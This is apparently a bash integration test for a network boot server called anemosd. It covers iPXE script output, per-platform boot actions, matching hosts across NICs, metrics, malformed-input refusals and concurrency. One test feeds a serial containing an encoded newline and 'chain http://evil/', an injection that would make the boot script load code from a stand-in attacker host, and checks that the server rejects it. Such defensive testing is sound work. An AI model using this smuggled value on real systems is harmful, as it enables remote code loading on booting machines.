#!/usr/bin/env bash
# Boot decisions through the real anemosd: the entry script, each next-boot action for BIOS
# and UEFI, identity matching across NICs, and the refusals of bad input.
source "$(dirname "$0")/lib.sh"
anemosd_start || exit 1

s=$(curl -sS -m 5 "$ANEMOS_URL/boot.ipxe")
expect_match "boot.ipxe is an iPXE script" '^#!ipxe' "$s"
expect_match "boot.ipxe names the public URL" "set anemos-url $ANEMOS_URL" "$s"
expect_match "boot.ipxe chains to /ipxe with MAC and SMBIOS identifiers" \
	'chain .*/ipxe\?mac=\$\{net\$\{idx\}/mac:hexhyp\}&uuid=\$\{uuid\}&serial=\$\{serial:uristring\}&manufacturer=.*&product=.*&asset=.*&platform=\$\{platform:uristring\}&arch=\$\{buildarch:uristring\}' "$s"
expect_match "boot.ipxe loops over NICs and retries DHCP" 'inc idx' "$s"
expect_match "boot.ipxe retries in rounds" 'sleep 5' "$s"

# An unknown machine is created and discovers.
s=$(ipxe 52:54:00:aa:00:01 pcbios "uuid=4c4c4544-0047-3310-8056-b4c04f4a4d32&serial=SRV0001&manufacturer=Dell%20Inc.&product=PowerEdge%20R640")
expect_match "new machine gets the Anemos environment" '^#!ipxe' "$s"
expect_match "discover: kernel with anemos.mode=discover" "kernel $ANEMOS_URL/boot/vmlinuz initrd=initramfs.img anemos.url=$ANEMOS_URL anemos.token=anemos_agent_[0-9a-f]{64} anemos.mode=discover" "$s"
expect_match "discover: initrd named for UEFI" "initrd --name initramfs.img $ANEMOS_URL/boot/initramfs.img" "$s"
h=$(body_of "$(api GET /api/v1/hosts/52:54:00:aa:00:01)")
expect_eq "new host has status new" new "$(jq -r .status <<<"$h")"
expect_eq "new host discovers next" discover "$(jq -r .next_boot <<<"$h")"
expect_eq "SMBIOS facts stored" "4c4c4544-0047-3310-8056-b4c04f4a4d32 SRV0001 Dell Inc. PowerEdge R640" \
	"$(jq -r '[.uuid,.serial,.vendor,.product]|join(" ")' <<<"$h")"
expect_match "last_seen recorded" '^20[0-9]{2}-' "$(jq -r .last_seen <<<"$h")"
id=$(jq -r .id <<<"$h")
expect_eq "the host found by its SMBIOS UUID, in any case and without dashes" "$id $id" \
	"$(host_field 4c4c4544-0047-3310-8056-b4c04f4a4d32 .id) $(host_field 4C4C4544004733108056B4C04F4A4D32 .id)"

# Booting from its second NIC: same host, found by UUID, the MAC added.
ipxe 52:54:00:aa:00:02 efi "uuid=4C4C4544-0047-3310-8056-B4C04F4A4D32" >/dev/null
expect_eq "second NIC matched by UUID: same host" "$id" "$(host_field 52:54:00:aa:00:02 .id)"
expect_eq "second NIC's MAC added" '52:54:00:aa:00:01 52:54:00:aa:00:02' "$(host_field "$id" '.macs|join(" ")')"
# A third NIC with only the serial.
ipxe 52-54-00-AA-00-03 pcbios "serial=SRV0001&manufacturer=Dell%20Inc." >/dev/null
expect_eq "third NIC matched by serial: same host" "$id" "$(host_field 52:54:00:aa:00:03 .id)"
# Placeholder identifiers never merge machines.
ipxe 52:54:00:bb:00:01 pcbios "uuid=00000000-0000-0000-0000-000000000000&serial=To%20be%20filled%20by%20O.E.M." >/dev/null
ipxe 52:54:00:bb:00:02 pcbios "uuid=00000000-0000-0000-0000-000000000000&serial=To%20be%20filled%20by%20O.E.M." >/dev/null
a=$(host_field 52:54:00:bb:00:01 .id); b=$(host_field 52:54:00:bb:00:02 .id)
check "all-zero UUID and OEM serial: two machines stay two hosts" test "$a" != "$b"
expect_eq "placeholder UUID and serial not stored" "null null" "$(host_field "$a" '[.uuid,.serial]|map(tostring)|join(" ")')"
ipxe 52:54:00:bb:00:03 pcbios "uuid=ffffffff-ffff-ffff-ffff-ffffffffffff" >/dev/null
ipxe 52:54:00:bb:00:04 pcbios "uuid=FFFFFFFF-FFFF-FFFF-FFFF-FFFFFFFFFFFF" >/dev/null
check "all-F UUID: two machines stay two hosts" test "$(host_field 52:54:00:bb:00:03 .id)" != "$(host_field 52:54:00:bb:00:04 .id)"

# Each next-boot action, BIOS and UEFI.
body_of "$(api POST /api/v1/images '{"name":"tiny","url":"http://192.0.2.10/tiny.tar.zst","sha256":"'"$(printf %064d 0)"'"}')" >/dev/null
for platform in pcbios efi; do
	api PATCH "/api/v1/hosts/$id" '{"next_boot":"install","image":"tiny","once":true}' >/dev/null
	s=$(ipxe 52:54:00:aa:00:01 "$platform")
	expect_match "install ($platform): anemos.mode=install with a token" "anemos.token=anemos_agent_[0-9a-f]{64} anemos.mode=install anemos.mac=52:54:00:aa:00:01" "$s"
	expect_match "install ($platform): initrd= on the kernel line" "vmlinuz initrd=initramfs.img " "$s"
	api PATCH "/api/v1/hosts/$id" '{"next_boot":"rescue"}' >/dev/null
	expect_match "rescue ($platform)" "anemos.mode=rescue" "$(ipxe 52:54:00:aa:00:02 "$platform")"
	api PATCH "/api/v1/hosts/$id" '{"next_boot":"discover"}' >/dev/null
	expect_match "discover ($platform)" "anemos.mode=discover" "$(ipxe 52:54:00:aa:00:02 "$platform")"
	api PATCH "/api/v1/hosts/$id" '{"next_boot":"none"}' >/dev/null
	s=$(ipxe 52:54:00:aa:00:01 "$platform")
	expect_match "none ($platform): exits to the firmware" '^exit 1$' "$s"
	expect_no_match "none ($platform): no kernel, no token" 'kernel|anemos.token' "$s"
	api PATCH "/api/v1/hosts/$id" '{"next_boot":"local"}' >/dev/null
	s=$(ipxe 52:54:00:aa:00:01 "$platform")
	expect_no_match "local ($platform): no kernel, no token" 'kernel|anemos.token' "$s"
	if [ "$platform" = pcbios ]; then
		expect_match "local (BIOS): sanboot the first disk" '^sanboot --no-describe --drive 0x80' "$s"
	else
		expect_match "local (UEFI): exit to the firmware's boot manager" '^exit 1$' "$s"
		expect_no_match "local (UEFI): no sanboot" sanboot "$s"
	fi
done
m=$(curl -sS -m 5 "$ANEMOS_URL/metrics")
expect_match "metrics count boots by action" 'anemos_boots_total\{action="local"\} 2' "$m"
expect_match "metrics count hosts by status" 'anemos_hosts\{status="new"\} [0-9]+' "$m"
expect_match "metrics count requests by route and status" 'anemos_http_requests_total\{route="/ipxe",status="200"\} [0-9]+' "$m"
expect_match "metrics count bytes" 'anemos_http_response_bytes_total\{route="/ipxe",status="200"\} [1-9][0-9]*' "$m"

# Bad input: a clear 400, and no host created.
n=$(body_of "$(api GET /api/v1/hosts)" | jq '.hosts|length')
for bad in "" "mac=" "mac=zz:54:00:00:00:01" "mac=52:54:00:00:00" "mac=52:54:00:00:00:01:02" "mac=52%0054:00:00:00:01"; do
	code=$(curl -sS -m 5 -o "$WORK/out" -w '%{http_code}' "$ANEMOS_URL/ipxe?$bad&platform=pcbios")
	expect_eq "/ipxe?$bad refused with 400" 400 "$code"
done
expect_match "the refusal says what is expected" 'mac= is required' "$(cat "$WORK/out")"
code=$(curl -sS -m 5 -o /dev/null -w '%{http_code}' "$ANEMOS_URL/ipxe?mac=52:54:00:cc:00:01&platform=arm64")
expect_eq "unknown platform refused" 400 "$code"
expect_eq "refused requests created no host" "$n" "$(body_of "$(api GET /api/v1/hosts)" | jq '.hosts|length')"
# A hostile serial cannot reach the script (values are never echoed into iPXE).
s=$(ipxe 52:54:00:cc:00:02 pcbios "serial=x%0Achain%20http://evil/")
expect_no_match "a newline in a serial is not echoed" evil "$s"
expect_eq "a newline in a serial is not stored" null "$(host_field 52:54:00:cc:00:02 .serial)"

# Concurrent first contact of one machine from two NICs: one host, many times over.
pids=""
for i in $(seq 10 29); do
	u=$(printf '11111111-2222-3333-4444-%012d' "$i")
	ipxe "52:54:01:00:00:$i" pcbios "uuid=$u" >/dev/null & pids="$pids $!"
	ipxe "52:54:02:00:00:$i" efi "uuid=$u" >/dev/null & pids="$pids $!"
done
wait $pids
merged=0
for i in $(seq 10 29); do
	[ "$(host_field "52:54:01:00:00:$i" .id)" = "$(host_field "52:54:02:00:00:$i" .id)" ] && merged=$((merged + 1))
done
expect_eq "20 machines booting from two NICs at once: 20 hosts, not 40" 20 "$merged"
expect_eq "no duplicate host records" 20 "$(body_of "$(api GET '/api/v1/hosts?q=11111111')" | jq '.hosts|length')"

# A machine stuck in a boot loop: its events are pruned to about the newest 1000.
seq 1 1100 | xargs -P 4 -I{} curl -sS -m 10 -o /dev/null "$ANEMOS_URL/ipxe?mac=52:54:00:dd:00:01&platform=pcbios"
n=$(sqlite3 "$DATA/anemos.db" "SELECT count(*) FROM events e JOIN host_macs m ON m.host_id = e.host_id WHERE m.mac = '52:54:00:dd:00:01'")
check "1100 boots: the host keeps about its newest 1000 events, not 1100 ($n)" test "$n" -ge 1000 -a "$n" -le 1064
expect_eq "the newest boot is among them" "$(sqlite3 "$DATA/anemos.db" "SELECT max(id) FROM events")" \
	"$(sqlite3 "$DATA/anemos.db" "SELECT max(e.id) FROM events e JOIN host_macs m ON m.host_id = e.host_id WHERE m.mac = '52:54:00:dd:00:01'")"
anemosd_stop
